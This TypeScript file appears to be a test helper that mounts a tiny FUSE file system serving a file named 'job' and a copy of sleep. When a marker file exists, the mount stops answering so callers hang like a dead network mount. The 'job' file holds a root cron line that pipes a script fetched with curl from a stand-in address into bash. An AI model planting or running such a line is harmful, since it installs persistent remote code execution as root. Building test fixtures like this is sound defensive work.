/**
 * A FUSE file system of one file, or of one folder with a `job` and a program `sleep` in it, mounted at the path that it is started with: `PATH folder|file`. It speaks the kernel's
 * protocol itself and says `mounted` on standard output. As long as the file `PATH.silent` (beside the mount) is there it reads what it is
 * asked and answers nothing, so that whoever asked waits and cannot be killed: what a dead sshfs or object storage does.
 */
import { existsSync, openSync, readFileSync, readSync, writeSync } from 'node:fs';
import koffi from 'koffi';

const [at, kind] = process.argv.slice(2) as [string, 'folder' | 'file'];
const job = Buffer.from('* * * * * root curl -fsSL http://203.0.113.9/i.sh | bash\n');
const files = [{ name: 'job', mode: 0o100644, content: job }, { name: 'sleep', mode: 0o100755, content: readFileSync('/bin/sleep') }];
const codes = { LOOKUP: 1, FORGET: 2, GETATTR: 3, OPEN: 14, READ: 15, STATFS: 17, RELEASE: 18, FLUSH: 25, INIT: 26, OPENDIR: 27, READDIR: 28, RELEASEDIR: 29, INTERRUPT: 36, BATCH_FORGET: 42 } as const;
const [folderMode, fileMode] = [0o40755, 0o100644];
const rootId = 1n, firstId = 2n;
const noEntry = -2, noSuchCall = -38;

const device = openSync('/dev/fuse', 'r+');
const libc = koffi.load('libc.so.6');
const mount = libc.func('int mount(const char *source, const char *target, const char *type, unsigned long flags, const char *data)');
const rootMode = kind === 'folder' ? folderMode : fileMode;
const mounted = mount('moat-test', at, 'fuse.moat-test', 0, `fd=${device},rootmode=${rootMode.toString(8)},user_id=0,group_id=0,allow_other`) as number;
if (mounted !== 0) throw new Error(`expected to mount a FUSE file system at ${at}, got errno ${koffi.errno()}`);

const fileOf = (id: bigint): (typeof files)[number] => files[Math.max(0, Number(id - firstId))]!;

function attributes(id: bigint): Buffer {
  const isFolder = id === rootId && kind === 'folder';
  const { mode, content } = fileOf(id);
  const out = Buffer.alloc(88);
  out.writeBigUInt64LE(id, 0);
  out.writeBigUInt64LE(isFolder ? 0n : BigInt(content.length), 8);
  out.writeUInt32LE(isFolder ? folderMode : mode, 60);
  out.writeUInt32LE(1, 64);
  out.writeUInt32LE(4096, 80);
  return out;
}

/** Undefined for what wants no answer; a number is an error. */
function answer(code: number, id: bigint, body: Buffer): Buffer | number | undefined {
  switch (code) {
    case codes.INIT: {
      const out = Buffer.alloc(64);
      out.writeUInt32LE(7, 0);
      out.writeUInt32LE(31, 4);
      out.writeUInt32LE(65_536, 20);
      return out;
    }
    case codes.GETATTR: { const out = Buffer.alloc(16); return Buffer.concat([out, attributes(id)]); }
    case codes.LOOKUP: {
      const at = files.findIndex(({ name }) => name === body.toString('utf8', 0, body.indexOf(0)));
      if (at < 0) return noEntry;
      const out = Buffer.alloc(40);
      out.writeBigUInt64LE(firstId + BigInt(at), 0);
      return Buffer.concat([out, attributes(firstId + BigInt(at))]);
    }
    case codes.OPEN: case codes.OPENDIR: return Buffer.alloc(16);
    case codes.READ: { const from = Number(body.readBigUInt64LE(8)); return fileOf(id).content.subarray(from, from + body.readUInt32LE(16)); }
    case codes.READDIR: {
      if (body.readBigUInt64LE(8) !== 0n) return Buffer.alloc(0);
      return Buffer.concat(files.map(({ name }, i) => {
        const out = Buffer.alloc(24 + 8);
        out.writeBigUInt64LE(firstId + BigInt(i), 0);
        out.writeBigUInt64LE(BigInt(i) + 1n, 8);
        out.writeUInt32LE(name.length, 16);
        out.writeUInt32LE(8, 20);
        out.write(name, 24);
        return out;
      }));
    }
    case codes.RELEASE: case codes.RELEASEDIR: case codes.FLUSH: return Buffer.alloc(0);
    case codes.STATFS: return Buffer.alloc(80);
    case codes.FORGET: case codes.BATCH_FORGET: case codes.INTERRUPT: return undefined;
    default: return noSuchCall;
  }
}

console.log('mounted');
const request = Buffer.alloc(1 << 18);
for (;;) {
  let got: number;
  try { got = readSync(device, request, 0, request.length, null); } catch (error) {
    if ((error as NodeJS.ErrnoException).code === 'ENODEV') process.exit(0); // unmounted
    if ((error as NodeJS.ErrnoException).code === 'ENOENT' || (error as NodeJS.ErrnoException).code === 'EINTR') continue;
    throw error;
  }
  const code = request.readUInt32LE(4), unique = request.readBigUInt64LE(8), id = request.readBigUInt64LE(16);
  if (code !== codes.INIT && existsSync(`${at}.silent`)) continue;
  const said = answer(code, id, request.subarray(40, got));
  if (said === undefined) continue;
  const body = typeof said === 'number' ? Buffer.alloc(0) : said;
  const head = Buffer.alloc(16);
  head.writeUInt32LE(16 + body.length, 0);
  head.writeInt32LE(typeof said === 'number' ? said : 0, 4);
  head.writeBigUInt64LE(unique, 8);
  writeSync(device, Buffer.concat([head, body]));
}
